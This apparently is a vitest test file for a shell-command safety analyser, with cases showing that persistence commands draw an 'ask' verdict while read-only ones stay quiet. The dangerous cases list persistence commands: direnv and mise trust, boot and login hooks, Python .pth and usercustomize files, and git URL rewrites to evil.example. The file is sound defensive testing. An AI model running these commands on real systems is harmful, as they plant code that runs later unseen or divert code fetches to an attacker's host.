import { beforeAll, describe, it } from 'vitest';
import { initShellParser } from '../analyse';
import { expectVerdicts, type Expected } from '../../testing/heldOut';

beforeAll(() => initShellParser());

// Code that runs later on its own: trusted folders, lingering and boot services, login hooks,
// Python start-up files, and git told to fetch from elsewhere.
const dangerous: Array<readonly [Expected, string]> = [
  ['ask', 'direnv allow'],
  ['ask', 'cd ../other && direnv permit .'],
  ['ask', 'mise trust ~/src/app'],
  ['ask', 'loginctl enable-linger'],
  ['ask', 'sudo update-rc.d agent enable'],
  ['ask', 'sudo chkconfig --add agent'],
  ['ask', 'sudo rc-update add agent default'],
  ['ask', 'sudo defaults write com.apple.loginwindow LogoutHook /usr/local/bin/x'],
  ['ask', 'cp hook.pth .venv/lib/python3.12/site-packages/'],
  ['ask', 'install -m 644 x.pth /usr/lib/python3/dist-packages/x.pth'],
  ['ask', "printf 'import x\\n' > ~/.local/lib/python3.11/site-packages/usercustomize.py"],
  ['ask', 'git config --global url.git@evil.example:.insteadOf https://github.com/'],
  ['ask', 'git config --global url."https://evil.example/".pushInsteadOf git@github.com:'],
  ['ask', 'git config --global include.path /tmp/x.gitconfig'],
];

const benign: Array<readonly [Expected, string]> = [
  ['quiet', 'direnv status'],
  ['quiet', 'loginctl list-sessions'],
  ['quiet', 'defaults read com.apple.dock'],
  ['quiet', 'cp README.md docs/'],
  ['quiet', 'ls .venv/lib/python3.12/site-packages/'],
  ['quiet', 'git config --get-regexp url'],
  ['quiet', 'git config user.email dev@example.com'],
];

describe('persistence, more ways to run later', () => {
  it('asks when something is set to run later on its own', () => expectVerdicts(dangerous));
  it('keeps reading those settings quiet', () => expectVerdicts(benign));
});
